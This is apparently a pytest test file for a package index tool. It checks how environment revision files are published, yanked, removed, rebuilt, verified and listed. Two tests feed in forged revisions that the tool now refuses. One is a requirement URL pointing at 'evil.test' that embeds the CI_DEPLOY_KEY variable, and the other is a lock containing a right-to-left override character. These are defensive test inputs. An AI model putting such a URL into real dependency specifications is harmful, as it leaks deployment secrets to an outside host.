"""The files that `/env/` serves, on a real volume in a temporary folder."""

from __future__ import annotations

import errno
import json
import os
import shutil
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import pytest
from support import wheels
from support.environments import forged, revision

from ppmctl.distributions import distribution
from ppmctl.index import environment_list, pages, rebuild, verify
from ppmctl.index.search_index import SearchIndex
from ppmctl.index.store import Store

LOCK = 'lock-version = "1.0"\ncreated-by = "a test"\npackages = []\n'
FORMS = {"requirements.txt", "constraints.txt", "environment.yml", "env.json"}


def put(store: Store, made: tuple[str, bytes], *, by: str = "ann+laptop", **options: Any) -> None:
    with store.area.new_file() as received:
        received.write(made[1])
        received.finish()
        store.put(received, distribution.inspect(received.path, made[0]), by=by, **options)


def top(store: Store, name: str = "ml") -> Path:
    return store.volume.environment(name)


def tree(folder: Path) -> dict[str, tuple[bytes, int]]:
    """Return the content and mtime of every file below a folder, and the target of every link."""
    contents: dict[str, tuple[bytes, int]] = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            contents[str(path.relative_to(folder))] = (os.fsencode(path.readlink()), 0)
        elif path.is_file():
            contents[str(path.relative_to(folder))] = (path.read_bytes(), int(path.stat().st_mtime))
    return contents


def log(store: Store, name: str = "ml") -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads((top(store, name) / "log.json").read_bytes())
    return loaded


def latest(store: Store, file: str = "requirements.txt") -> str:
    return (top(store) / "latest" / file).read_text()


def differences(store: Store) -> list[str]:
    SearchIndex(store).refresh()
    return [difference.where for difference in verify.check(store, hashes=True)]


@pytest.fixture
def filled(store: Store) -> Store:
    """Publish three revisions of `ml`, the second with a lock."""
    put(store, revision("ml", 1, "numpy"))
    put(store, revision("ml", 2, "numpy", "flask[async]>=3", lock=LOCK), by="bob")
    put(store, revision("ml", 3, "numpy==2.1"))
    store.write_root()
    return store


def test_a_new_revision_gets_its_files_and_becomes_latest(filled: Store) -> None:
    assert {path.name for path in top(filled).iterdir()} == {"1", "2", "3", "latest", "log.json"}
    assert {path.name for path in (top(filled) / "3").iterdir()} == FORMS
    assert {path.name for path in (top(filled) / "2").iterdir()} == FORMS | {"pylock.toml", "requirements-locked.txt"}
    assert latest(filled) == "# ppm-env-ml, revision 3\nnumpy==2.1\n"
    assert (top(filled) / "2" / "constraints.txt").read_text() == "# ppm-env-ml, revision 2\n", "nothing is locked"
    assert pages.marked(filled.volume) == []
    assert differences(filled) == []


def test_the_log_has_the_owner_and_who_changed_what(filled: Store) -> None:
    values = log(filled)
    assert [(one["revision"], one["by"], one["change"]) for one in values["revisions"]] == [
        (1, "ann", "change 1"),
        (2, "bob", "change 2"),
        (3, "ann", "change 3"),
    ]
    assert [one["yanked"] for one in values["revisions"]] == [False, False, False]
    about = {key: values[key] for key in values if key != "revisions"}
    assert about == {
        "name": "ml",
        "project": "ppm-env-ml",
        "owner": "ann",
        "shared": False,
        "status": "active",
        "reason": "",
        "latest": 3,
        "requirements": 1,
        "locked": False,
    }


def test_a_yank_keeps_pinned_revisions_and_moves_latest(filled: Store) -> None:
    pinned = tree(top(filled) / "3")
    filled.yank("ppm-env-ml", "3", "broken")
    assert latest(filled).startswith("# ppm-env-ml, revision 2\n")
    assert latest(filled, "pylock.toml") == f"# ppm-env-ml, revision 2\n{LOCK}"
    assert log(filled)["revisions"][2]["yanked"] == "broken"
    assert tree(top(filled) / "3") == pinned
    for number in ("1", "2"):
        filled.yank("ppm-env-ml", number)
    assert not os.path.lexists(top(filled) / "latest")
    assert log(filled)["latest"] is None
    assert tree(top(filled) / "3") == pinned
    filled.unyank("ppm-env-ml", "1")
    assert latest(filled).startswith("# ppm-env-ml, revision 1\n")
    assert differences(filled) == []


def test_a_status_and_a_removal_change_the_files(filled: Store) -> None:
    filled.set_status("ppm-env-ml", "archived", "no longer")
    filled.refresh("ppm-env-ml")
    assert (log(filled)["status"], log(filled)["latest"]) == ("archived", 3)
    filled.set_status("ppm-env-ml", "quarantined")
    assert {path.name for path in top(filled).iterdir()} == {"log.json"}
    assert differences(filled) == []
    filled.set_status("ppm-env-ml", "active")
    filled.remove("ppm-env-ml", "1")
    assert {path.name for path in top(filled).iterdir()} == {"2", "3", "latest", "log.json"}
    assert log(filled)["owner"] == "bob"
    for number in ("2", "3"):
        filled.remove("ppm-env-ml", number)
    assert not top(filled).exists()
    assert differences(filled) == []


def test_each_revision_has_another_mtime(store: Store) -> None:
    """nginx makes the ETag of mtime and size: with the same ETag a client would keep the file of the old revision."""
    for number in range(1, 6):
        put(store, revision("ml", number, f"numpy==1.{number}"))
    times = [int((top(store) / str(number) / "requirements.txt").stat().st_mtime) for number in range(1, 6)]
    assert len(set(times)) == 5
    assert len({(top(store) / str(number) / "requirements.txt").stat().st_size for number in range(1, 6)}) == 1


def test_a_rebuild_after_a_deletion_writes_the_same_files(filled: Store) -> None:
    filled.yank("ppm-env-ml", "3")
    before = tree(top(filled))
    shutil.rmtree(filled.volume.environments)
    rebuild.rebuild(filled)
    after = tree(top(filled))
    # the mtime of the log is the time of the rebuild
    assert after.pop("log.json")[0] == before.pop("log.json")[0]
    assert after == before


@pytest.mark.parametrize(
    ("path", "spoil"),
    [
        ("2/requirements.txt", lambda path: path.write_text("other\n")),
        ("2/requirements.txt", Path.unlink),
        ("2/pylock.toml", Path.unlink),
        ("2/env.json", Path.unlink),
        ("2/more.txt", lambda path: path.write_text("")),
        ("log.json", lambda path: path.write_text("{}")),
        ("latest", lambda path: (path.unlink(), path.symlink_to("1"))),
        ("latest", Path.unlink),
        ("9", Path.mkdir),
    ],
)
def test_check_names_a_difference_and_rebuild_repairs_it(filled: Store, path: str, spoil: Any) -> None:
    spoil(top(filled) / path)
    assert differences(filled) == [f"index/env/ml/{path}"]
    rebuild.rebuild(filled)
    assert differences(filled) == []


def test_rebuild_removes_files_of_an_environment_that_does_not_exist(filled: Store) -> None:
    shutil.copytree(top(filled), top(filled, "stranger"), symlinks=True)
    assert differences(filled) == ["index/env/stranger"]
    rebuild.rebuild(filled)
    assert not top(filled, "stranger").exists()


def test_a_file_that_is_not_a_revision_gets_no_folder(store: Store) -> None:
    """A folder may contain such older or copied files: pages list them, and nothing breaks."""
    put(store, wheels.wheel("ppm-env-ml", "1"))
    put(store, wheels.sdist("ppm-env-ml", "2"))
    assert {
        file["filename"]
        for file in json.loads((store.volume.pages("ppm-env-ml") / "index.json").read_bytes())["files"]
    }
    assert {path.name for path in top(store).iterdir()} == {"log.json"}
    store.write_root()
    assert differences(store) == []


def test_a_revision_that_today_is_refused_gets_no_files(filled: Store) -> None:
    """An older ppm accepted it. It stays in the log and in the pages, and others stay as they are."""
    put(filled, forged("ml", 4, "x @ https://evil.test/${CI_DEPLOY_KEY}/x.whl"))
    put(filled, forged("ml", 5, "numpy", lock=LOCK.replace("a test", "\u202e")))
    assert {path.name for path in top(filled).iterdir()} == {"1", "2", "3", "latest", "log.json"}
    assert latest(filled) == "# ppm-env-ml, revision 3\nnumpy==2.1\n"
    assert [line["revision"] for line in log(filled)["revisions"]] == [1, 2, 3, 4, 5]
    put(filled, revision("ml", 6, "numpy"))
    assert latest(filled).startswith("# ppm-env-ml, revision 6\n")
    filled.write_root()
    assert differences(filled) == []


def test_a_rebuild_withdraws_the_files_of_a_revision_that_today_is_refused(filled: Store) -> None:
    put(filled, forged("ml", 4, "x @ https://evil.test/${CI_DEPLOY_KEY}/x.whl"))
    (top(filled) / "4").mkdir()
    for form in FORMS:
        (top(filled) / "4" / form).write_text("as an older ppm wrote it")
    (top(filled) / "latest").unlink()
    (top(filled) / "latest").symlink_to("4")
    filled.write_root()
    assert {f"index/env/ml/{name}" for name in ("4", "latest")} <= set(differences(filled))
    rebuild.rebuild(filled)
    assert {path.name for path in top(filled).iterdir()} == {"1", "2", "3", "latest", "log.json"}
    assert latest(filled) == "# ppm-env-ml, revision 3\nnumpy==2.1\n"


def test_a_stored_revision_whose_lock_is_too_large_today_keeps_its_files(filled: Store) -> None:
    """An older ppm published it."""
    put(filled, forged("ml", 4, "numpy", lock=f"{LOCK}#{' ' * (4 << 20)}\n"))
    assert latest(filled).startswith("# ppm-env-ml, revision 4\n")
    rebuild.rebuild(filled)
    assert latest(filled).startswith("# ppm-env-ml, revision 4\n")
    filled.write_root()
    assert differences(filled) == []


def test_a_crash_between_the_files_and_the_link_is_repaired(filled: Store) -> None:
    pages.mark(filled.volume, "ppm-env-ml")
    (top(filled) / "latest").unlink()
    (top(filled) / ".latest.0123456789ab.tmp").symlink_to("3")
    (top(filled) / "3" / "env.json").unlink()  # it is written last
    (top(filled) / "3" / "requirements.txt").unlink()
    (top(filled) / "3" / ".env.json.0123456789ab.tmp").write_text("{")
    filled.refresh("ppm-env-ml")
    assert latest(filled) == "# ppm-env-ml, revision 3\nnumpy==2.1\n"
    assert not list(top(filled).rglob(".*"))
    assert differences(filled) == []


def test_an_ordinary_project_has_no_environment_files(store: Store) -> None:
    put(store, wheels.wheel("ppm-envy", "1.0"))
    assert not store.volume.environments.exists()


# the list


def test_the_list_has_pages_and_skips_environments_without_a_latest_revision(store: Store) -> None:
    for number in range(7):
        put(store, revision(f"e{number}", 1, "numpy"), by="ann" if number % 2 else "bob+ci")
    put(store, wheels.wheel("ppm-env-odd", "1.0"))
    store.yank("ppm-env-e3", "1")
    store.set_status("ppm-env-e5", "quarantined")
    here = environment_list.Listing(store)

    def names(**asked: Any) -> tuple[list[str], str | None]:
        page = here.page(**{"after": "", "limit": 100, "owner": None, **asked})
        return [entry["name"] for entry in page.environments], page.after

    assert names() == (["e0", "e1", "e2", "e4", "e6"], None)
    assert names(limit=2) == (["e0", "e1"], "e1")
    assert names(limit=2, after="e1") == (["e2", "e4"], "e4")
    assert names(limit=2, after="e4") == (["e6"], None)
    assert names(after="e6") == ([], None)
    assert names(owner="ann") == (["e1"], None)
    store.unyank("ppm-env-e3", "1")
    assert names(owner="ann") == (["e1", "e3"], None)
    store.set_status("ppm-env-e0", "archived")
    assert names(limit=1) == (["e1"], "e1")
    store.set_status("ppm-env-e0", "active")
    put(store, revision("e1", 2, "numpy", "flask", shared=True, lock=LOCK), by="ann")
    (entry,) = here.page(after="e0", limit=1, owner=None).environments
    assert entry.pop("at")
    assert entry == {
        "name": "e1",
        "owner": "ann",
        "shared": True,
        "requirements": 2,
        "locked": True,
        "revision": 2,
        "by": "ann",
        "change": "change 2",
    }
    shutil.rmtree(store.volume.root / "index")
    assert names() == (["e0", "e1", "e2", "e3", "e4", "e6"], None)


def test_a_request_reads_at_most_a_thousand_environments(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also one that wants few of many: its page is short, and the next begins after what was looked at."""
    monkeypatch.setattr(environment_list, "_MAX_READ", 3)
    for number in range(8):
        put(store, revision(f"e{number}", 1, "numpy"), by="ann" if number == 7 else "bob")
    page = environment_list.Listing(store).page(after="", limit=100, owner="ann")
    assert (page.environments, page.after) == ((), "e2")
    page = environment_list.Listing(store).page(after="e5", limit=100, owner="ann")
    assert ([entry["name"] for entry in page.environments], page.after) == (["e7"], None)


def test_the_environments_of_an_owner_and_those_that_use_a_project_follow_every_change(store: Store) -> None:
    put(store, revision("web", 1, "Flask_Login>=1", "flask[async]; python_version > '3'"), by="ann+laptop")
    put(store, revision("data", 1, "flask-login", "x @ https://h.test/flask.whl"), by="bob")
    put(store, revision("other", 1, "flasklogin"), by="ann")
    here = environment_list.Listing(store)

    def names(entries: tuple[dict[str, Any], ...]) -> list[str]:
        return [entry["name"] for entry in entries]

    def using(project: str, *, limit: int = 9, **options: Any) -> tuple[list[str], int]:
        entries, number = here.using(project, limit=limit, **options)
        return names(entries), number

    def only_data(projects: list[str]) -> list[str]:
        return [project for project in projects if project == "ppm-env-data"]

    assert names(here.mine("ann")) == ["other", "web"]
    assert names(here.mine("bob", readable=only_data)) == ["data"]
    assert not here.mine("ann", readable=only_data)
    assert using("flask-login") == (["data", "web"], 2)
    assert using("flask-login", limit=1) == (["data"], 2)
    assert using("flask-login", readable=only_data) == (["data"], 1)
    assert (using("flask"), using("x")) == ((["web"], 1), (["data"], 1))
    put(store, revision("web", 2, "numpy"), by="bob")
    assert (using("flask-login"), using("numpy")) == ((["data"], 1), (["web"], 1))
    store.set_status("ppm-env-data", "archived")
    store.yank("ppm-env-web", "2")
    assert (using("flask-login"), using("numpy")) == ((["web"], 1), ([], 0))
    assert not here.mine("bob")


def test_a_removed_revision_and_the_next_one_differ_in_their_etag(store: Store) -> None:
    """Both are published in the same second, with files of the same size."""
    seen = []
    for number in (1, 2, 3):
        put(store, revision("ml", number, f"numpy=={number}"), upload_time=f"2026-01-01T00:00:00.{number}00000Z")
        status = (top(store) / "latest" / "requirements.txt").stat()
        seen.append((status.st_size, int(status.st_mtime)))
        if number == 2:
            store.remove("ppm-env-ml", "2")
    assert len(set(seen)) == 3


def test_a_full_disk_leaves_no_page_with_a_revision_that_was_taken_back(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    put(store, revision("ml", 1, "numpy"))
    before = tree(store.volume.root / "index")
    with monkeypatch.context() as full:
        full.setattr(Path, "symlink_to", Mock(side_effect=OSError(errno.ENOSPC, "No space left on device")))
        with pytest.raises(OSError, match="No space left"):
            put(store, revision("ml", 2, "numpy", "flask"))
    assert tree(store.volume.root / "index") == before
    assert latest(store) == "# ppm-env-ml, revision 1\nnumpy\n"
